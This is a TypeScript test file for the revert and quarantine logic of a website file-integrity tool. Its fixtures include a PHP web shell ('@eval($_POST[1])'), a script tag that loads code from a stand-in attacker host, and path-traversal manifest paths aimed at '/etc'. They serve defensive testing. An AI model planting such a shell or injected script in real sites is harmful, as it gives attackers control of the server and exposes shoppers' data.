// Revert safety: content, modes and deleted files come back; added files are quarantined
// only when asked and never destroyed; a symlink swapped in for a folder is never followed;
// manifest paths with `..` or absolute are refused; read-only files are replaced.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { compare } from '../../../src/integrity/check.ts';
import { revertChanges } from '../../../src/integrity/revert.ts';
import { StatCache } from '../../../src/integrity/statcache.ts';
import { walkRoots } from '../../../src/integrity/walk.ts';
import { readAudit } from '../../../src/integrity/state.ts';
import { memoryBaseline, tempDir, writeTree, type MemoryBaseline } from './helpers.ts';

const later = Date.now() + 60_000;

async function changesOf(root: string, base: MemoryBaseline) {
  return compare(base.entries, await walkRoots([root], () => false), new StatCache(), {
    full: true,
    rules: [],
    maxScanBytes: 1024,
    now: later,
    baselineTrustedBefore: later,
  }).changes;
}

function setup(): { root: string; state: string; outside: string; cleanup(): void } {
  const top = tempDir();
  const root = join(top, 'site');
  const state = join(top, 'state');
  const outside = join(top, 'outside');
  mkdirSync(outside);
  writeTree(root, {
    'index.php': '<?php echo "shop";',
    'app/code/Pay.php': '<?php // pay',
    'skin/app.js': 'ok();',
    'robots.txt': 'User-agent: *',
  });
  return { root, state, outside, cleanup: () => rmSync(top, { recursive: true, force: true }) };
}

const opts = (state: string, base: MemoryBaseline, extra: { dryRun?: boolean; deleteAdded?: boolean } = {}) => ({
  dryRun: extra.dryRun ?? false,
  deleteAdded: extra.deleteAdded ?? false,
  stateDir: state,
  by: 'tester@host',
  now: 1_800_000_000_000,
  read: base.read,
});

test('restores content, mode and deleted files; quarantines added files only when asked', async () => {
  const t = setup();
  try {
    const base = await memoryBaseline([t.root]);
    writeFileSync(join(t.root, 'skin/app.js'), 'ok();<script src="//evil.example/x.js"></script>');
    chmodSync(join(t.root, 'index.php'), 0o666);
    unlinkSync(join(t.root, 'robots.txt'));
    writeFileSync(join(t.root, 'app/code/shell.php'), '<?php @eval($_POST[1]);');
    const dry = await revertChanges(await changesOf(t.root, base), base.entries, opts(t.state, base, { dryRun: true }));
    assert.equal(dry.restored, 0);
    assert.equal(readFileSync(join(t.root, 'skin/app.js'), 'utf8').includes('evil'), true, 'dry run changes nothing');

    const kept = await revertChanges(await changesOf(t.root, base), base.entries, opts(t.state, base));
    assert.equal(kept.restored, 3);
    assert.equal(readFileSync(join(t.root, 'skin/app.js'), 'utf8'), 'ok();');
    assert.equal(lstatSync(join(t.root, 'index.php')).mode & 0o777, 0o644);
    assert.equal(readFileSync(join(t.root, 'robots.txt'), 'utf8'), 'User-agent: *');
    assert.ok(existsSync(join(t.root, 'app/code/shell.php')), 'added files stay without --delete-added');
    assert.ok(kept.steps.some((s) => s.path === 'app/code/shell.php' && s.action === 'keep-added'));

    const q = await revertChanges(
      await changesOf(t.root, base),
      base.entries,
      opts(t.state, base, { deleteAdded: true }),
    );
    assert.equal(q.quarantined, 1);
    assert.ok(!existsSync(join(t.root, 'app/code/shell.php')));
    assert.ok(q.quarantineDir !== null);
    const moved = q.steps.find((s) => s.action === 'quarantine')?.detail ?? '';
    assert.equal(readFileSync(moved, 'utf8'), '<?php @eval($_POST[1]);', 'quarantined, not destroyed');
    assert.deepEqual(await changesOf(t.root, base), []);
    const audit = readAudit(t.state);
    assert.ok(
      audit.some((a) => a.action === 'quarantine' && a.path === 'app/code/shell.php' && a.by === 'tester@host'),
    );
    assert.ok(audit.some((a) => a.action === 'revert' && a.path === 'skin/app.js'));
  } finally {
    t.cleanup();
  }
});

test('never follows a symlink swapped in for a folder', async () => {
  const t = setup();
  try {
    const base = await memoryBaseline([t.root]);
    // The attacker replaces app/code with a symlink to a folder outside the site.
    renameSync(join(t.root, 'app/code'), join(t.root, 'app/code.bak'));
    symlinkSync(t.outside, join(t.root, 'app/code'));
    const changes = await changesOf(t.root, base);
    // Only revert the file below the swapped folder (the case where a naive revert writes outside).
    const r = await revertChanges(
      changes.filter((c) => c.path === 'app/code/Pay.php'),
      base.entries,
      opts(t.state, base),
    );
    assert.equal(r.refused, 1);
    assert.match(r.steps[0]?.detail ?? '', /symlink/);
    assert.ok(!existsSync(join(t.outside, 'Pay.php')), 'nothing written through the symlink');
    // Reverting everything puts the folder back (the symlink itself is replaced, never followed).
    const all = await revertChanges(
      await changesOf(t.root, base),
      base.entries,
      opts(t.state, base, { deleteAdded: true }),
    );
    assert.equal(all.refused, 0, JSON.stringify(all.steps));
    assert.ok(lstatSync(join(t.root, 'app/code')).isDirectory());
    assert.equal(readFileSync(join(t.root, 'app/code/Pay.php'), 'utf8'), '<?php // pay');
    assert.ok(!existsSync(join(t.outside, 'Pay.php')));
  } finally {
    t.cleanup();
  }
});

test('a file swapped for a symlink is replaced, and its target left alone', async () => {
  const t = setup();
  try {
    const base = await memoryBaseline([t.root]);
    writeFileSync(join(t.outside, 'secret'), 'outside');
    unlinkSync(join(t.root, 'index.php'));
    symlinkSync(join(t.outside, 'secret'), join(t.root, 'index.php'));
    const r = await revertChanges(await changesOf(t.root, base), base.entries, opts(t.state, base));
    assert.equal(r.restored, 1);
    assert.ok(lstatSync(join(t.root, 'index.php')).isFile());
    assert.equal(readFileSync(join(t.outside, 'secret'), 'utf8'), 'outside');
  } finally {
    t.cleanup();
  }
});

test('refuses manifest paths with .. or absolute', async () => {
  const t = setup();
  try {
    const base = await memoryBaseline([t.root]);
    const good = base.entries.get(StatCache.key(t.root, 'robots.txt'));
    assert.ok(good);
    for (const bad of ['../outside/pwned', '/etc/pwned', 'app/../../outside/pwned', 'app//x']) {
      base.entries.set(StatCache.key(t.root, bad), { ...good, path: bad });
    }
    const changes = (await changesOf(t.root, base)).filter((c) => c.kinds.includes('deleted'));
    assert.equal(changes.length, 4);
    const r = await revertChanges(changes, base.entries, opts(t.state, base));
    assert.equal(r.refused, 4);
    assert.equal(r.restored, 0);
    assert.ok(!existsSync(join(t.outside, 'pwned')));
    assert.ok(!existsSync('/etc/pwned'));
  } finally {
    t.cleanup();
  }
});

test('a read-only file is replaced and gets its mode back', async () => {
  const t = setup();
  try {
    const base = await memoryBaseline([t.root]);
    const p = join(t.root, 'app/code/Pay.php');
    writeFileSync(p, '<?php // pay; skim();');
    chmodSync(p, 0o444);
    const r = await revertChanges(await changesOf(t.root, base), base.entries, opts(t.state, base));
    assert.equal(r.restored, 1, JSON.stringify(r.steps));
    assert.equal(readFileSync(p, 'utf8'), '<?php // pay');
    assert.equal(lstatSync(p).mode & 0o777, 0o644);
  } finally {
    t.cleanup();
  }
});
